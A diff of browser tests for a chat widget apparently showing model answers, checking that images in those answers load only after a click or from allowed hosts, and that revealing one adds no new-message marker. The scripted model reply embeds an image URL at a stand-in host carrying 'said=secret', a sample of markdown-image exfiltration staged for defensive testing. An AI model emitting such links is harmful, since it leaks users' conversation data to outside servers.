@@ -23,7 +23,7 @@ test("images load after a click, or at once from a host that the owner allows", 
     referrers.push(route.request().headers()["referer"]);
     return route.fulfill({ contentType: "image/gif", body: PIXEL });
   });
-  await page.goto(await serveChatPage(page, server.url, '{ typebot: "shows-pictures" }'));
+  await page.goto(await serveChatPage(page, server.url, '{ typebot: "asks-model" }'));
   provider.plan.push((answer) => {
     answer.write(
       "![Logo](https://pictures.example.com/logo.gif) ![Map](https://leak.example.net/map.gif?said=secret)",
@@ -46,5 +46,39 @@ test("images load after a click, or at once from a host that the owner allows", 
   expect(requested[1]).toBe("https://leak.example.net/map.gif?said=secret");
   expect(referrers).toEqual([undefined, undefined]);
   expect(await page.getByRole("button", { name: "Odd" }).count()).toBe(1);
+  await page.context().close();
+});
+
+test("an image that the visitor asks for is no new message", async () => {
+  const page = await (await browser.newContext({ viewport: { width: 400, height: 600 } })).newPage();
+  const tall = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="900"/>';
+  await page.route(/example\.net/, (route) => route.fulfill({ contentType: "image/svg+xml", body: tall }));
+  await page.goto(await serveChatPage(page, server.url, '{ typebot: "asks-model" }'));
+  provider.plan.push((answer) => {
+    answer.write("![Map](https://leak.example.net/map.svg)\n\n");
+    answer.write(Array.from({ length: 60 }, (_, line) => `- line ${line} of it\n`).join(""));
+    answer.finish();
+  });
+  await page.getByRole("textbox").fill("Show me");
+  await page.keyboard.press("Enter");
+  await page.locator(".banter-streaming-container li").nth(59).waitFor();
+  // The reply's actions appear with its end, and the next question after it.
+  await page.getByRole("button", { name: /copy/i }).last().waitFor();
+  const show = page.getByRole("button", { name: /Show image/ });
+  await page.mouse.move(200, 200);
+  await expect
+    .poll(async () => {
+      await page.mouse.wheel(0, -400);
+      return show.evaluate((button) => button.getBoundingClientRect().top);
+    })
+    .toBeGreaterThan(60);
+  await show.click();
+  const height = () => page.getByRole("img", { name: "Map" }).evaluate((image) => image.clientHeight);
+  await expect.poll(height).toBeGreaterThan(300);
+  // Two frames: the growth is observed, then rendered.
+  await page.evaluate(
+    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
+  );
+  expect(await page.locator(".banter-new-messages").count()).toBe(0);
   await page.context().close();
 });
